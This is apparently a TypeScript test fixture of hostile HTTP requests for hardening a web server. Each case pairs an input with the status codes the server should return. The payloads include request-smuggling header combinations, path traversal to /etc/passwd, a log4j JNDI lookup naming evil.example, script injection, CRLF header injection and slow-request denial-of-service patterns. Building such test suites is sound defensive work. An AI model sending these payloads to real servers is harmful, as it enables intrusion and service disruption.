/*
 * Hostile and malformed requests as bytes on a socket, each with the expected response statuses in order. Each response
 * has one log line unless `lines` is set.
 */
export interface HostileInput {
  readonly name: string;
  /**
   * Written one after the other. A number is a pause in milliseconds, `end` half-closes the connection, `reset` resets
   * it, `wait` waits until the app closes it.
   */
  readonly send: (string | Buffer | number | 'end' | 'reset' | 'wait')[];
  readonly statuses: number[];
  readonly lines?: number;
}

/** Must never appear in a response or in the log. */
export const SECRET = 'hunter2';

const head = (line: string, ...headers: string[]) => [line, 'Host: a', ...headers, '', ''].join('\r\n');
const get = (target: string, ...headers: string[]) => head(`GET ${target} HTTP/1.1`, ...headers);
const post = (body: string, ...headers: string[]) => head('POST /api/hello HTTP/1.1', ...headers) + body;
const one = (status: number, inputs: Record<string, string | Buffer>): HostileInput[] =>
  Object.entries(inputs).map(([name, bytes]) => ({ name, send: [bytes], statuses: [status] }));

const smuggling: HostileInput[] = [
  ...one(400, {
    'Content-Length and Transfer-Encoding': post('0\r\n\r\n', 'Content-Length: 5', 'Transfer-Encoding: chunked'),
    'Transfer-Encoding and Content-Length': post('0\r\n\r\n', 'Transfer-Encoding: chunked', 'Content-Length: 5'),
    'two lengths': post('hello', 'Content-Length: 5', 'Content-Length: 6'),
    'the same length twice': post('hello', 'Content-Length: 5', 'Content-Length: 5'),
    'a list of lengths': post('hello', 'Content-Length: 5, 5'),
    'a negative length': post('', 'Content-Length: -1'),
    'a signed length': post('hello', 'Content-Length: +5'),
    'a hexadecimal length': post('hello', 'Content-Length: 0x5'),
    'a length in two parts': post('hello', 'Content-Length: 5 5'),
    'a length beyond 64 bits': post('', 'Content-Length: 99999999999999999999'),
    'an empty length': post('', 'Content-Length:'),
    'an unknown encoding': post('0\r\n\r\n', 'Transfer-Encoding: xchunked'),
    'an unknown encoding, for GET': get('/info', 'Transfer-Encoding: gzip'),
    'chunked, then another encoding': post('0\r\n\r\n', 'Transfer-Encoding: chunked, identity'),
    'an encoding hidden by a tab': post('0\r\n\r\n', 'Transfer-Encoding:\tchunked\t,', 'Content-Length: 3'),
    'a space before the colon': post('0\r\n\r\n', 'Transfer-Encoding : chunked'),
    'a folded header': get('/api/hello', 'X-A: b\r\n c'),
    'a folded encoding': post('0\r\n\r\n', 'Transfer-Encoding:\r\n chunked', 'Content-Length: 3'),
    'line feeds alone': 'GET /api/hello HTTP/1.1\nHost: a\n\n',
    'a carriage return alone': 'GET /api/hello HTTP/1.1\r\nHost: a\rX-A: b\r\n\r\n',
    'two hosts': get('/api/hello', 'Host: b'),
    'two hosts that are equal': get('/api/hello', 'host: a'),
    'no host': 'GET /api/hello HTTP/1.1\r\n\r\n',
    'an empty host': 'GET /api/hello HTTP/1.1\r\nHost:\r\n\r\n',
  }),
  { name: 'two requests at once', send: [get('/api/hello') + get('/info')], statuses: [200, 200] },
  { name: 'a request, then garbage', send: [`${get('/info')}${SECRET} garbage\r\n\r\n`], statuses: [200, 400] },
  {
    name: 'a request in the body of another',
    send: [get('/info', 'Content-Length: 31') + get('/nope')],
    statuses: [200],
  },
  { name: 'a chunk without a size', send: [post('zz\r\n', 'Transfer-Encoding: chunked'), 'wait'], statuses: [405] },
  {
    name: 'a chunk size beyond 64 bits',
    send: [post('fffffffffffffffff\r\n', 'Transfer-Encoding: chunked')],
    statuses: [405],
  },
  { name: 'a negative chunk size', send: [post('-1\r\n\r\n', 'Transfer-Encoding: chunked')], statuses: [405] },
  {
    name: 'a chunk with 20 kB of extensions',
    send: [post(`1;${'a'.repeat(20_000)}\r\nx\r\n`, 'Transfer-Encoding: chunked')],
    statuses: [405],
  },
  {
    name: 'a chunk that is longer than its size',
    send: [post('1\r\nxyz\r\n0\r\n\r\n', 'Transfer-Encoding: chunked')],
    statuses: [405],
  },
];

const targets: HostileInput[] = [
  ...one(400, {
    'the target * for GET': get('*'),
    'a target without a slash': get('api/hello'),
    'a space in the target': get('/api/hello /info'),
    'a tab in the target': get('/api\t/hello'),
    'a NUL in the target': get('/api\0/hello'),
    'an escape sequence in the target': get('/\x1b[31mred'),
    'a DEL in the target': get('/\x7f'),
    'raw UTF-8 in the target': get('/api/hello?name=Zo\u00eb'),
    'raw bytes beyond ASCII in the target': Buffer.from(get('/\x9b2J\xff'), 'latin1'),
    'an absolute target with a bad port': get('http://a:b/'),
    'an absolute target with a bad host': get('http://[::1/'),
    'an absolute target of another scheme': get('ftp://a/info'),
    'a script as the target': get('javascript:alert(1)'),
    'an authority as the target': get('a:443'),
    'an empty target': 'GET  HTTP/1.1\r\nHost: a\r\n\r\n',
  }),
  ...one(200, {
    'an absolute target': get('http://evil.example/info'),
    'an absolute target without a path': get('http://evil.example'),
    'an absolute target with credentials': get(`http://user:${SECRET}@evil.example/info`),
    'a fragment': get('/info?#/health'),
    'a query that is not percent-encoded': get(`/info?%zz&%&token=${SECRET}`),
    'a query that names a prototype': get('/info?__proto__[x]=1&constructor=2'),
    'a nested query': get('/api/hello?name[first]=x'),
    'a thousand and one parameters': get(`/info?${'a&'.repeat(1_001)}`),
  }),
  ...one(404, {
    'a second slash': get('//evil.example'),
    'a second slash and credentials': get('//user:password@evil.example:bad/'),
    'a slash at the end': get('/health/'),
    'upper case': get('/HEALTH'),
    'dot segments': get('/../../etc/passwd'),
    'encoded dot segments': get('/%2e%2e/%2e%2e/etc/passwd'),
    'backslashes': get('/..\\..\\windows\\win.ini'),
    'an encoded NUL': get('/%00'),
    'an overlong encoding': get('/%c0%ae%c0%ae/'),
    'a broken encoding': get('/%'),
    'a path parameter': get('/health;jsessionid=1'),
    'an encoded line break': get('/%0d%0aSet-Cookie:%20a=b'),
    'a lookup for log4j': get('/${jndi:ldap://evil.example/a}'),
    'a script in the path': get('/<script>alert(1)</script>'),
    'quotes and braces in the path': get('/"},{"level":"FATAL'),
    'a hash in the path': get('/info#fragment'),
    'names of object properties': get('/constructor/__proto__'),
  }),
  ...one(400, {
    'an invalid UTF-8 sequence as the name': get('/api/hello?name=%ff'),
    'a right-to-left override as the name': get('/api/hello?name=%E2%80%AE'),
    'markup as the name': get('/api/hello?name=%3Cimg%20src=x%3E'),
    'two names': get('/api/hello?name=a&name=b'),
    'a line break as the name': get('/api/hello?name=a%0d%0ab'),
  }),
  ...one(414, {
    'a target of 5 kB': get(`/${'a'.repeat(5_000)}`),
    'a query of 5 kB': get(`/info?${'a'.repeat(5_000)}`),
  }),
  ...one(431, { 'a target of 20 kB': get(`/${'a'.repeat(20_000)}`) }),
];

const methods: HostileInput[] = [
  ...one(400, {
    'an unknown method': head('HACK / HTTP/1.1'),
    'a method in lower case': head('get / HTTP/1.1'),
    'HTTP/0.9': 'GET /\r\n\r\n',
    'HTTP/2 with prior knowledge': 'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
    'HTTP/3': head('GET / HTTP/3.0'),
    'another protocol': head('GET / HTTPS/1.1'),
    'a TLS handshake': Buffer.from('16030100c8010000c40303', 'hex'),
    'an SSH banner': 'SSH-2.0-OpenSSH_9.9\r\n',
    'random bytes': Buffer.from('80ff00c1e5017f9b1b5b324a0d0a0d0a', 'hex'),
  }),
  ...one(405, {
    'TRACE': head('TRACE / HTTP/1.1', `Cookie: ${SECRET}`),
    'CONNECT': head('CONNECT evil.example:443 HTTP/1.1'),
    'PROPFIND': head('PROPFIND / HTTP/1.1'),
    'POST with a method override': post('', 'X-HTTP-Method-Override: GET', 'Content-Length: 0'),
    'POST that waits for 100 Continue': post('', 'Expect: 100-continue', 'Content-Length: 5'),
    'POST of 60 kB': post('a'.repeat(60_000), 'Content-Length: 60000'),
    'POST of malformed JSON': post('{"a":', 'Content-Type: application/json', 'Content-Length: 5'),
  }),
  {
    name: 'POST of more chunks than the limit',
    send: [post(`${`400\r\n${'a'.repeat(1024)}\r\n`.repeat(200)}0\r\n\r\n`, 'Transfer-Encoding: chunked')],
    statuses: [405],
  },
  ...one(413, {
    'POST of a gigabyte': post('', 'Content-Length: 1000000000'),
    'GET with a body of 70 kB': get('/info', 'Content-Length: 70000') + 'a'.repeat(70_000),
  }),
  ...one(204, { 'OPTIONS of everything': head('OPTIONS * HTTP/1.1') }),
  ...one(417, { 'an unknown expectation': get('/info', 'Expect: the Spanish Inquisition') }),
];

const headers: HostileInput[] = [
  ...one(400, {
    'a NUL in a header': get('/info', 'X-A: \0'),
    'an escape sequence in a header': get('/info', 'X-A: \x1b[2J'),
    'a space in a header name': get('/info', 'X A: b'),
    'a header without a colon': get('/info', 'X-A'),
    'a header without a name': get('/info', ': b'),
    'a control character in a header name': get('/info', 'X\x01A: b'),
  }),
  ...one(431, {
    'a header of 20 kB': get('/info', `X-A: ${'a'.repeat(20_000)}`),
    '3,000 headers': get('/info', ...Array<string>(3_000).fill('X-A: bcdef')),
  }),
  ...one(200, {
    'a cookie of 12 kB': get('/info', `Cookie: ${SECRET}=${'a'.repeat(12_000)}`),
    '500 headers': get('/info', ...Array.from({ length: 500 }, (_, i) => `X-${i}: b`)),
    'credentials': get('/info', `Authorization: Bearer ${SECRET}`, `Cookie: session=${SECRET}`, `X-Api-Key: ${SECRET}`),
    'a request ID from the client': get('/info', `X-Request-Id: ${SECRET}`),
    'a trace id that is JSON': get('/info', 'X-Amzn-Trace-Id: {"level":"FATAL"}'),
    'a trace id of 8 kB': get('/info', `X-Amzn-Trace-Id: Root=1-${'a'.repeat(8_000)}`),
    'a trace id with markup': get('/info', 'X-Amzn-Trace-Id: Root=1-67891233-abcdef01234567891234567<;Self=x'),
    'two trace ids': get('/info', 'X-Amzn-Trace-Id: Root=x', 'X-Amzn-Trace-Id: Root=y'),
    'raw bytes in a header': Buffer.from(get('/info', 'User-Agent: \xff\x9b'), 'latin1'),
    'an upgrade to WebSocket': get(
      '/info', 'Connection: Upgrade', 'Upgrade: websocket', 'Sec-WebSocket-Version: 13',
      'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==',
    ),
    'an upgrade to HTTP/2': get(
      '/info', 'Connection: Upgrade, HTTP2-Settings', 'Upgrade: h2c', 'HTTP2-Settings: AAMAAABkAAQAAP__',
    ),
    'a range': get('/', 'Range: bytes=0-0,-1'),
    'a malformed address': get(
      '/info', 'X-Forwarded-For: <script>', 'X-Forwarded-Proto: javascript', 'Forwarded: for="_x"',
    ),
    'a malformed host': 'GET /info HTTP/1.1\r\nHost: <script>@/\\\r\n\r\n',
    'HTTP/1.0 without a host': 'GET /info HTTP/1.0\r\n\r\n',
    'an empty line first': `\r\n${get('/info')}`,
  }),
  ...one(304, { 'a condition that any response meets': get('/', 'If-None-Match: *', 'If-Modified-Since: never') }),
  { name: 'a probe with a query', send: [get('/health?x=1')], statuses: [200], lines: 0 },
];

const slow: HostileInput[] = [
  { name: 'a request line that never ends', send: ['GET /inf'], statuses: [408] },
  {
    name: 'headers that never end',
    send: [...'GET /info HTTP/1.1\r\nHost: a\r\nX-A: '].flatMap((byte) => [byte, 20]),
    statuses: [408],
  },
  { name: 'a connection without a request', send: [], statuses: [408] },
  { name: 'a body that never arrives', send: [post('', 'Content-Length: 5'), 'wait'], statuses: [405] },
  {
    name: 'a body, one byte at a time',
    send: [post('', 'Content-Length: 500'), ...Array<(string | number)[]>(40).fill(['a', 50]).flat(), 'wait'],
    statuses: [405],
  },
  { name: 'a client that half-closes in the middle', send: ['GET /info HT', 'end'], statuses: [400] },
  { name: 'a client that half-closes after the request', send: [get('/info'), 'end'], statuses: [200] },
  {
    name: 'a client that resets the connection in the middle',
    send: ['GET /info HT', 20, 'reset', 'wait'],
    statuses: [],
    lines: 0,
  },
  { name: 'a client that sends nothing and disconnects', send: ['end', 'wait'], statuses: [], lines: 0 },
];

export const HOSTILE_INPUTS: HostileInput[] = [...smuggling, ...targets, ...methods, ...headers, ...slow];
